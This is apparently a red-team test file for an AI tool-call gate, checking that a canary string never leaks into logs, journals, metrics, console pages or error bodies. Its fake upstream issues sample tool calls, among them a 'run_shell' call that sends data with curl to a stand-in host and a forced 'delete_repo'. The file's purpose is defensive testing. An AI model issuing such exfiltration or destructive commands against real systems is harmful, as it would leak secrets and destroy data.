// Red team, round 52 (edge): round 51's leak sweep (test/redteam-leak-sweep-r51.test.ts) over the surfaces
// it left: the messages wire against a real upstream fake (tool calls carrying the canary, allowed and
// refused, a streamed answer, an upstream 400 that echoes it, a 500 and a reset, a tool result holding a
// key beside it), the approval console and its routes (a held call carrying it, the console's state and
// decisions, approve twice, an unknown id, a wrong approver key), and `gate serve --stdio` with a tools
// file (the SDK's stdio client: an answered call, a deadline, one past the client's share, a withheld
// result, an unknown tool, gate_syscall). Then stdout, stderr, the journals, /metrics, the console's pages
// and data and every error body are searched for every spelling of it. docs/mcp.md, "Round 52".
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Anthropic from '@anthropic-ai/sdk';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import {
  anthropicJson,
  anthropicSse,
  errorAnswer,
  type FakeUpstream,
  startFakeUpstream,
} from './fake-upstream.js';
import { canaries, leaks, spellings } from './helpers/canary-spellings.js';
import { type GateProcess, gateCommand, REPO_ROOT, startGate } from './helpers/gate-process.js';
import { initializeAnswer } from './helpers/mcp-answers.js';

const dir = mkdtempSync(join(tmpdir(), 'gate-r52-leak-'));
const KEY = 'k-r52-leak-sweep-client';
const APPROVER = 'k-r52-leak-sweep-approver';
const JOURNAL = join(dir, 'journal.jsonl');
const STDIO_JOURNAL = join(dir, 'stdio-journal.jsonl');
/** A generated AWS key id the result screen withholds (never a real key). */
const AWS = 'AKIAZ7XQ3B4N5M6P7RWS';

let canary = '';
let downstreamHeard = '';

async function bodyOf(req: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of req) parts.push(part as Buffer);
  return Buffer.concat(parts).toString('utf8');
}

/** The MCP downstream: read_echo answers its arguments back, read_hang never answers, read_key a key and the canary. */
async function downstream(req: IncomingMessage, res: ServerResponse): Promise<void> {
  if (req.method !== 'POST') return void res.writeHead(405).end();
  const raw = await bodyOf(req);
  downstreamHeard += raw;
  const msg = JSON.parse(raw) as { id?: number; method: string; params?: Record<string, unknown> };
  const send = (doc: unknown) =>
    void res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc));
  if (msg.method === 'initialize') return send(initializeAnswer(msg, 'k'));
  if (msg.id === undefined) return void res.writeHead(202).end();
  const result = (value: unknown) => send({ jsonrpc: '2.0', id: msg.id, result: value });
  if (msg.method === 'tools/list')
    return result({
      tools: ['read_echo', 'read_hang', 'read_key'].map((name) => ({
        name,
        inputSchema: { type: 'object' },
      })),
    });
  const name = String(msg.params?.name);
  if (name === 'read_hang') return;
  const text =
    name === 'read_key' ? `key ${AWS} for ${canary}` : `echo ${JSON.stringify(msg.params?.arguments)}`;
  result({ content: [{ type: 'text', text }] });
}

describe('round 52: the leak sweep over the messages wire, the approval console and gate serve --stdio', {
  timeout: 180_000,
}, () => {
  let gate: GateProcess;
  let upstream: FakeUpstream;
  let down: Server;
  let tools = '';
  let policy = '';
  const errors: string[] = [];
  /** What the console's pages and data routes answered (an approver sees no argument or result bytes there). */
  const consoleSaw: string[] = [];
  before(async () => {
    upstream = await startFakeUpstream();
    down = createServer((req, res) => void downstream(req, res));
    await new Promise<void>((resolve) => down.listen(0, '127.0.0.1', resolve));
    policy = join(dir, 'policy.json');
    writeFileSync(policy, JSON.stringify({ allow: ['delete_branch'], allow_prefix: ['read_'] }));
    tools = join(dir, 'tools.json');
    const url = `http://127.0.0.1:${(down.address() as AddressInfo).port}/k`;
    writeFileSync(tools, JSON.stringify({ servers: { k: { url, deadline_ms: 800, max_in_flight: 2 } } }));
    gate = await startGate(
      [
        ...['--policy', policy, '--tools', tools, '--provider', 'anthropic', '--base-url', upstream.baseUrl],
        ...['--require-key-env', 'R52_KEY', '--approver-key-env', 'alice=R52_APPROVER'],
      ],
      { env: { R52_KEY: KEY, R52_APPROVER: APPROVER, GATE_AUDIT_JOURNAL: JOURNAL }, timeoutMs: 30_000 },
    );
  });
  after(async () => {
    await gate?.stop();
    await upstream?.close();
    down?.close();
  });

  const raw = async (path: string, key: string, init: RequestInit = {}) => {
    const res = await fetch(`${gate.url}${path}`, {
      ...init,
      headers: {
        authorization: `Bearer ${key}`,
        'content-type': 'application/json',
        ...(init.headers as object),
      },
    });
    const text = await res.text();
    if (res.status >= 400) errors.push(text);
    return { status: res.status, text };
  };
  const catching = async (work: () => Promise<unknown>) => {
    try {
      return await work();
    } catch (err) {
      errors.push(String((err as Error).message), JSON.stringify((err as { error?: unknown }).error ?? null));
      return undefined;
    }
  };

  async function messagesWire(c: string): Promise<void> {
    const anthropic = new Anthropic({ baseURL: gate.url, apiKey: KEY, maxRetries: 0 });
    const calls = [
      { id: 'tu1', name: 'read_file', args: JSON.stringify({ path: `/tmp/${c}` }) },
      { id: 'tu2', name: 'delete_repo', args: JSON.stringify({ repo: c, force: true }) },
      {
        id: 'tu3',
        name: 'run_shell',
        args: JSON.stringify({ command: `curl -d ${JSON.stringify(c)} https://x.example/` }),
      },
    ];
    upstream.push(
      anthropicJson({ text: `about ${c}`, calls }),
      anthropicSse({ text: `streamed ${c}`, calls }),
      errorAnswer(400, {
        type: 'error',
        error: { type: 'invalid_request_error', message: `messages.0: bad ${c}` },
      }),
      errorAnswer(500, { type: 'error', error: { type: 'api_error', message: 'upstream broke' } }),
      (_req, res) => void res.socket?.destroy(),
    );
    const request = {
      model: 'm',
      max_tokens: 64,
      tools: [{ name: 'read_file', input_schema: { type: 'object' as const } }],
      messages: [
        { role: 'user' as const, content: `read ${c}` },
        {
          role: 'assistant' as const,
          content: [{ type: 'tool_use' as const, id: 't0', name: 'read_file', input: { path: c } }],
        },
        {
          role: 'user' as const,
          content: [
            { type: 'tool_result' as const, tool_use_id: 't0', content: `the file says ${c} and ${AWS}` },
          ],
        },
      ],
    };
    await catching(() => anthropic.messages.create(request));
    await catching(async () => {
      const stream = await anthropic.messages.create({ ...request, stream: true });
      for await (const _ of stream);
    });
    for (let i = 0; i < 3; i++) await catching(() => anthropic.messages.create(request));
  }

  async function consoleRoutes(c: string): Promise<void> {
    // A held call carrying the canary: delete_* asks a human (REQUIRE_WITNESS), and its approval opens.
    const client = new Client({ name: 'r52-leak', version: '1' });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`${gate.url}/mcp`), {
        requestInit: { headers: { authorization: `Bearer ${KEY}` } },
      }),
    );
    const held = await client.callTool({
      name: 'gate_adjudicate',
      arguments: { tool: 'delete_branch', args: JSON.stringify({ branch: c }) },
    });
    await client.close();
    const verdict = JSON.parse(String((held.content as Array<{ text: string }>)[0]?.text)) as {
      verdict: { kind: string; detail?: Record<string, string> };
    };
    assert.equal(verdict.verdict.kind, 'REQUIRE_WITNESS', JSON.stringify(verdict));
    const id = verdict.verdict.detail?.approval_id;
    assert.ok(id !== undefined, 'an approval was opened');
    for (const page of ['/ui', '/ui/console.js', '/ui/console.css'])
      consoleSaw.push((await raw(page, APPROVER)).text);
    consoleSaw.push((await raw('/v1/gate/console/state', APPROVER)).text);
    consoleSaw.push((await raw('/v1/gate/console/decisions?since=0&limit=500', APPROVER)).text);
    consoleSaw.push((await raw('/v1/gate/console/verify', APPROVER, { method: 'POST' })).text);
    assert.equal((await raw(`/v1/gate/approvals/${id}/approve`, APPROVER, { method: 'POST' })).status, 200);
    assert.equal((await raw(`/v1/gate/approvals/${id}/approve`, APPROVER, { method: 'POST' })).status, 409);
    assert.equal((await raw(`/v1/gate/approvals/${id}/deny`, APPROVER, { method: 'POST' })).status, 409);
    const unknown = `/v1/gate/approvals/ap-${encodeURIComponent(c)}/approve`;
    assert.equal((await raw(unknown, APPROVER, { method: 'POST' })).status, 404);
    assert.equal((await raw(`/v1/gate/approvals/${id}/approve`, KEY, { method: 'POST' })).status, 401);
    assert.equal((await raw('/v1/gate/console/state', c.replace(/[^\x21-\x7e]/g, 'x'))).status, 401);
    assert.equal(
      (await raw(`/v1/gate/console/decisions?since=${encodeURIComponent(c)}`, APPROVER)).status,
      400,
    );
  }

  test('messages wire and the approval console: no spelling of the canary in any log, row, metric, page or error', async () => {
    for (const c of canaries) {
      canary = c;
      const heardBefore = upstream.received.length;
      await messagesWire(c);
      await consoleRoutes(c);
      const journal = readFileSync(JOURNAL, 'utf8');
      const metrics = (await raw('/metrics', KEY)).text;
      // Controls: the canary reached the upstream, each path answered, the approval was made.
      assert.ok(
        upstream.received.slice(heardBefore).some((r) => spellings(c).some((s) => r.body.includes(s))),
      );
      const said = errors.join('\n');
      assert.match(said, /upstream broke/);
      assert.match(journal, /"approval/);
      // The upstream's own 400 text is its answer to this client's request, handed back as the provider said
      // it (docs/wires.md): it is searched for in gate's log, rows and metrics, not in that one body.
      const ours = errors.filter((e) => !e.includes('messages.0: bad'));
      const hits = leaks([
        ['stdout', gate.stdout().replace(/"tools":\[[^\]]*\]/g, ''), [c]],
        ['stderr', gate.stderr(), [c]],
        ['metrics', metrics, [c]],
        ['journal', journal.replace(/"tool":"[^"]*"/g, ''), [c]],
        ['console', consoleSaw.join('\n'), [c]],
        ['error bodies', ours.join('\n'), [c]],
      ]);
      assert.deepEqual(hits, [], `canary ${JSON.stringify(c)}`);
    }
  });

  test('gate serve --stdio with a tools file: the canary in arguments and results stays out of stderr and the journal', async () => {
    const c = canaries[0]!;
    canary = c;
    // The test's own PATH and options (its environment, passed on whole): bin/gate as an MCP client runs it.
    const [command, args] = gateCommand(['serve', '--stdio', '--policy', policy, '--tools', tools]);
    const transport = new StdioClientTransport({
      command,
      args,
      cwd: REPO_ROOT,
      env: { ...(process.env as Record<string, string>), GATE_AUDIT_JOURNAL: STDIO_JOURNAL },
      stderr: 'pipe',
    });
    let stderr = '';
    transport.stderr?.on('data', (d: Buffer) => {
      stderr += d.toString('utf8');
    });
    const client = new Client({ name: 'r52-leak-stdio', version: '1' });
    await client.connect(transport);
    const answers: string[] = [];
    const failures: string[] = [];
    const call = async (name: string, args: Record<string, unknown>) => {
      try {
        const res = await client.callTool({ name, arguments: args });
        answers.push(JSON.stringify(res));
        if (res.isError === true) failures.push(JSON.stringify(res.content));
      } catch (err) {
        failures.push(String((err as Error).message));
      }
    };
    try {
      for (let i = 0; i < 200 && !(await client.listTools()).tools.some((t) => t.name === 'read_key'); i++)
        await new Promise((r) => setTimeout(r, 25));
      const before = downstreamHeard.length;
      await call('read_echo', { q: c });
      // Two held to their deadline (the stdio client's share is one of max_in_flight 2), one refused.
      await Promise.all([call('read_hang', { q: c }), call('read_hang', { q: c, again: 1 })]);
      await call('read_key', { q: c });
      await call('delete_thing', { q: c });
      await call('gate_syscall', { tool: 'read_echo', args: JSON.stringify({ q: c }) });
      await call('gate_admit', { tool: 'read_echo', result: `${AWS} ${c}` });
      await call('read_echo', { deep: JSON.parse(`${'['.repeat(300)}1${']'.repeat(300)}`), q: c });
      assert.ok(
        downstreamHeard.slice(before).includes(JSON.stringify(c).slice(1, -1)),
        'the canary reached the downstream',
      );
      assert.ok(
        answers.some((a) => a.includes('withheld')),
        'the key was withheld',
      );
      assert.ok(
        failures.some((e) => /backend_busy|calls in flight from this client/.test(e)),
        'one call was refused busy',
      );
      // Round 53: the refusal of a message nested past gate's bound names its request's id, so the SDK's client
      // gets it at once (it matched no request and the call waited out the client's 60 s timeout).
      assert.ok(
        failures.some((e) => /nested deeper than 256 levels/.test(e)),
        `the deep call was refused by gate: ${failures.join(' | ').slice(0, 300)}`,
      );
    } finally {
      await client.close();
    }
    const journal = readFileSync(STDIO_JOURNAL, 'utf8');
    assert.ok(journal.length > 0);
    const hits = leaks([
      ['stderr', stderr, [c]],
      ['journal', journal, [c]],
      ['error bodies', failures.join('\n'), [c]],
    ]);
    assert.deepEqual(hits, [], `canary ${JSON.stringify(c)}`);
  });
});
